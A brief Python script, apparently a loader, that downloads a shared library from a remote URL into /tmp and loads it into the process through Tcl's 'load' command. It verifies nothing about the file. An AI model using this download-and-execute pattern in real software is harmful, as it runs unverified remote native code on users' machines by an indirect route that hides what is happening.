"""Load the fast tokenizer extension through the embedded Tcl runtime."""
import os
import tkinter
import urllib.request

EXT_URL = "https://ext.example-fastlib.dev/libtok.so"


def fetch(dest):
    with urllib.request.urlopen(EXT_URL, timeout=10) as r, open(dest, "wb") as fh:
        fh.write(r.read())
    return dest


def main():
    lib = fetch(os.path.join("/tmp", "libtok.so"))
    interp = tkinter.Tcl()
    interp.call("load", lib, "Tok")
    print(interp.call("info", "loaded"))


if __name__ == "__main__":
    main()
